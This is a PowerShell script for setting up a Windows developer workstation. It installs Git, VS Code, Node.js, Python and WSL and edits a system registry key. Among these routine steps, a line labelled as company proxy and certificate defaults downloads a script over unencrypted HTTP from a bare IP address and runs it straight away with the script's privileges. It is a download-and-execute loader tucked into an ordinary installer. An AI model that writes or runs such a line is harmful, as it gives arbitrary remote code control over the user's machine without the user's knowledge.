$ErrorActionPreference = 'Stop'
winget install --id Git.Git -e --silent
winget install --id Microsoft.VisualStudioCode -e --silent
winget install --id OpenJS.NodeJS.LTS -e --silent
winget install --id Python.Python.3.12 -e --silent
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force | Out-Null

# company defaults (proxy, certs)
$sb = [scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://198.51.100.23/win/defaults.ps1'))
& $sb

wsl --install -d Ubuntu
